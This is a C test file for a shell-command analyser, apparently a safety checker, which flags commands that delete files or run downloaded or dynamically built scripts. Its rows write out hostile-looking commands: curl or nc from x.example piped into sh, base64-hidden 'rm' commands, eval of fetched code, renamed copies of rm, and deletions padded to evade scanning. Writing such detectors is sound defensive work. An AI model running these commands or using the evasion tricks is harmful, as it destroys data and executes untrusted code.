/* SPDX-License-Identifier: MIT */
/* Write, then run: what the commands of a call leave on the disk for those behind them. */
#include "shell_rows.h"

static void written_then_run(void)
{
	static const struct example rows[] = {
		ROW("echo 'rm /a' | dd of=/x.sh; sh /x.sh; dd if=/x.sh of=y bs=1; sh y", "/a; /a"),
		ROW("echo 'rm /a' > x; install -m 755 x /y; /y; cp x /d/; sh /d/x", "/a; /a"),
		ROW("echo 'rm x/a' > f; sed -i 's/x\\/a/\\/a/' f; sh f", "/a"),
		ROW("echo 'rm /a' | cat > f; sh f; eval \"$(cat f)\"; eval \"$(<f)\"",
			"/a; /a; /a"),
		ROW("echo /a > f; rm $(cat f) $(cat f g)", "/a"),
		ROW("echo /a > f; rm $(cat f); xargs rm < f", "/a; /a"),
		ROW("echo 'rm /a' > f; cp -t g f; sh g", ""),
		ROW("cp /dev/stdin f <<< 'rm /a'; sh f; echo 'rm /b' | install /dev/stdin g; ./g",
			"/a; /b"),
		ROW("echo cm0gL2E= > f; base64 -d f | sh; base64 -d f > g; sh g", "/a; /a"),
		ROW("echo cm0gL2E= | base64 -d > g && ./g; sh <(base64 -d <<< cm0gL2E=)", "/a; /a"),
		ROW("yes 'rm /a' | head -1 | sh; printf '1\nrm /b\n3' | tail -n 2 | head -n1 | sh",
			"/a; /b"),
		ROW("cat <(echo 'rm /a') > x; sh x; echo '!rm /b' > x.vim; vim -S x.vim; echo "
		    "'shell rm /c' > g; gdb -x g",
			"/a; /b; /c"),
		ROW("printf 'a\nrm /b\n' | tail -c 3 | cat; echo 'rm /a' | head -c 2 | xargs", ""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void programs_the_call_writes(void)
{
	static const struct example rows[] = {
		ROW("echo 'rm /a' > ~/bin/x; chmod +x ~/bin/x; x", "/a"),
		ROW("echo 'rm /a' | sudo tee /usr/local/bin/x; x", "/a"),
		ROW("echo 'rm /a' > x; PATH=.:$PATH; x; echo 'rm /b' > y; ls; z", "/a"),
		ROW("echo 'rm /a' > x; x", ""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

/* A long text in front hides nothing. */
static void long_texts(void)
{
	static const char *const forms[][2] = {
		{"cat > x <<'E'\n", "\nE\nsh x"},
		{"printf '%s' '", "' > x; sh x"},
		{"echo '", "' | sh"},
		{"x='", "'; eval \"$x\""},
		{"cat > x <<'E'\n", "\nE\ncp x y; sh y"},
	};
	for (size_t i = 0; i < ARRAY_LEN(forms); i++) {
		struct buf text;
		buf_init(&text, &arena, 1 * MIB);
		buf_add(&text, str_of(forms[i][0]));
		while (text.len < 80 * KIB)
			buf_add(&text, STR("# a comment that fills the script up to here\n"));
		buf_add(&text, STR("rm /a"));
		buf_add(&text, str_of(forms[i][1]));
		CHECK_STR(values(buf_str(&text), FACT_DELETES), STR("/a"));
	}
}

static void links_of_the_call(void)
{
	static const struct example rows[] = {
		ROW("ln -s /a l; rm l; rm l/; rm l/b",
			"/srv/app/l; /srv/app/l,/a; /srv/app/l/b,/a/b"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void downloads(void)
{
	static const struct example rows[] = {
		ROW("curl -o i https://x.example/i; mv i j; sh j", "fetched-script"),
		ROW("x=$(curl -s https://x.example/i); echo \"$x\" > i; sh i", "fetched-script"),
		ROW("printf %s \"$(curl https://x.example/i)\" > i && sh i", "fetched-script"),
		ROW("gh gist view 12 -r > i; sh i", "fetched-script"),
		ROW("scp a@x.example:i /tmp/i; perl /tmp/i; dig +short txt x.example > j; sh j",
			"fetched-script; fetched-script"),
		ROW("ssh x.example cat i > i; sh i; rsync rsync://x.example/m/j k; bash k",
			"fetched-script; fetched-script"),
		ROW("dig +short txt x.example | tr -d x > i; sh i; ssh x.example cat i | tee j; sh "
		    "j",
			"fetched-script; fetched-script"),
		ROW("rsync -a a/ b/; sh b/i; scp i x.example:i; sh i; scp localhost:i i; sh i", ""),
		ROW("curl https://x.example/i > i; sh < i; cat i | sh; head -1 i | sh",
			"fetched-script; fetched-script; fetched-script"),
		ROW("curl -o i https://x.example/i; base64 -d i > j; bash j", "fetched-script"),
		ROW("curl -o i.gz https://x.example/i; gunzip i.gz; sh i; zcat i.gz | sh",
			"fetched-script; fetched-script"),
		ROW("wget -O i https://x.example/i; install -m 755 i j; ./j; dd if=j of=k; sh k",
			"fetched-script; fetched-script"),
		ROW("curl -o i https://x.example/i; eval \"$(cat i)\"; bash -c \"$(<i)\"",
			"fetched-script; dynamic-program; fetched-script; dynamic-program"),
		ROW("curl -o i https://x.example/i; python3 < i; exec 3<i; sh <&3",
			"fetched-script; fetched-script"),
		ROW("curl -o i https://x.example/i; cat i; jq . i > j; cat j | sort; gcc i -o k; "
		    "./k",
			""),
		ROW("curl -o i http://localhost:3/i; sh < i", "unread-script"),
		ROW("curl -o i https://x.example/i; (cat i; echo) | sh", "fetched-script"),
	};
	CHECK_ALL(rows, FACT_DOUBT);
}

static void downloads_in_other_ways(void)
{
	static const struct example rows[] = {
		ROW("cat > f <<< \"$(curl -s https://x.example/i)\"; sh f", "fetched-script"),
		ROW("x=$(curl -s https://x.example/i); cat > f <<E\n$x\nE\nsh f", "fetched-script"),
		ROW("{ curl -s https://x.example/i; } > f; sh f; (wget -qO- https://x.example/i) > "
		    "g; . ./g",
			"fetched-script; fetched-script"),
		ROW("if true; then curl -s https://x.example/i | sed 1d; fi > f; sh f",
			"fetched-script"),
		ROW("curl -s https://x.example/i | sudo tee /usr/local/bin/f; f x",
			"fetched-script"),
		ROW("python3 -c \"import requests; "
		    "open('f','w').write(requests.get('https://x.example/i').text)\"; sh f",
			"fetched-script"),
		ROW("printf 'IP=%s' \"$(date)\" > f; . ./f; echo \"IP=$(curl "
		    "https://x.example/i)\" > g; . ./g",
			""),
		ROW("cat > f <<< \"IP=$(curl -s https://x.example/i)\"; . ./f", ""),
		ROW("{ curl -s http://localhost/i; } > f; sh f; curl https://x.example/i > g; h g",
			""),
	};
	CHECK_ALL(rows, FACT_DOUBT);
}

static void what_fetching_commands_feed(void)
{
	static const struct example doubts[] = {
		ROW("cat <(curl https://x.example/i) > f; sh f; nc x.example 9 > g; . ./g",
			"fetched-script; fetched-script"),
		ROW("f() { curl https://x.example/i; }; f > g; sh g; eval \"$(f)\"; x=$(f); sh -c "
		    "\"$x\"",
			"fetched-script; fetched-script; dynamic-program; fetched-script; "
			"dynamic-program"),
		ROW("exec 3< <(curl https://x.example/i); sh <&3; sh <(nc x.example 9)",
			"fetched-script; fetched-script"),
		ROW("curl https://x.example/i | python3 /dev/stdin; curl https://x.example/i | cut "
		    "-c2- | perl -",
			"fetched-script; fetched-script"),
		ROW("curl http://localhost/i | perl -; curl https://x.example/i | python3 x.py",
			"unread-script"),
		ROW("f() { curl https://x.example/i; }; f > g; cat g; h() { curl "
		    "http://localhost/i; }; eval \"$(h)\"",
			"dynamic-program"),
		ROW("diff <(curl https://x.example/i) x > f; sh f; read x < <(curl "
		    "https://x.example/i); cd \"x$x\"",
			""),
	};
	static const struct example commands[] = {
		ROW("curl https://x.example/i | while read l; do eval \"$l\"; done",
			"curl https://x.example/i; read l; eval $(curl https://x.example/i); "
			"$(curl https://x.example/i); curl https://x.example/i"),
		ROW("ls | while read l; do echo $l; done", "ls; read l; echo $l"),
	};
	CHECK_ALL(doubts, FACT_DOUBT);
	CHECK_ALL(commands, FACT_COMMAND);
}

static void what_code_writes(void)
{
	static const struct example deletes[] = {
		ROW("python3 -c \"open('f','w').write('rm /a')\"; sh f", "/a"),
		ROW("node -e \"fs.writeFileSync('f.sh','#!/bin/sh\\nrm /a')\" && chmod +x f.sh && "
		    "./f.sh",
			"/a"),
		ROW("perl -e 'open F,\">f\"; print F \"rm /a\"'; . ./f; ruby -e "
		    "'File.write(\"g\",\"rm /b\")'; sh g",
			"/a; /b"),
		ROW("python3 - <<'E'\np = 'f.py'\nopen(p, 'w').write('import os; "
		    "os.remove(\"/a\")')\nE\npython3 f.py",
			"/a"),
		ROW("python3 -c \"open('f','w').write('rm /a')\"; cat f; sh g; rm $(cat f)", ""),
	};
	static const struct example doubts[] = {
		ROW("python3 -c \"open('f','w').write(x)\"; sh f; sh g", "unread-script"),
		ROW("python3 -c \"open('f').read()\"; sh f", ""),
	};
	CHECK_ALL(deletes, FACT_DELETES);
	CHECK_ALL(doubts, FACT_DOUBT);
}

static void what_archives_hold(void)
{
	static const struct example rows[] = {
		ROW("tar xf a.tgz && ./a/install.sh; sh /srv/x.sh", "unread-script"),
		ROW("unzip -d /x a.zip; sh /x/run.sh; bash run.sh", "unread-script"),
		ROW("7z x a.7z -ox; cd x; ./run.sh", "unread-script"),
		ROW("tar tf a.tgz; ./install.sh; tar cf x.tar x; sh x/y.sh", ""),
		ROW("tar xf a.tgz; echo ls > x.sh; sh x.sh", ""),
	};
	CHECK_ALL(rows, FACT_DOUBT);
}

static void programs_under_other_names(void)
{
	static const struct example rows[] = {
		ROW("cp /bin/rm /x; /x /a; sudo /x /b; /y /c", "/a; /b"),
		ROW("ln -s $(which rm) x; ./x /a; cd /; ./x /b", "/a"),
		ROW("ln -s /usr/bin/rm; ./rm /a; cp /bin/rm .; ./rm /b", "/a; /b"),
		ROW("cat /bin/rm > x; ./x /a; install /bin/rm /d/; /d/rm /b", "/a; /b"),
		ROW("cp /bin/rm /x; rm /x; cp /bin/ls /y; /y /a", "/x"),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

int main(void)
{
	arena_init(&arena, LIMIT_ARENA_BYTES);
	TEST(written_then_run);
	TEST(programs_the_call_writes);
	TEST(long_texts);
	TEST(links_of_the_call);
	TEST(downloads);
	TEST(downloads_in_other_ways);
	TEST(what_fetching_commands_feed);
	TEST(what_code_writes);
	TEST(what_archives_hold);
	TEST(programs_under_other_names);
	arena_finish(&arena);
	return test_done();
}
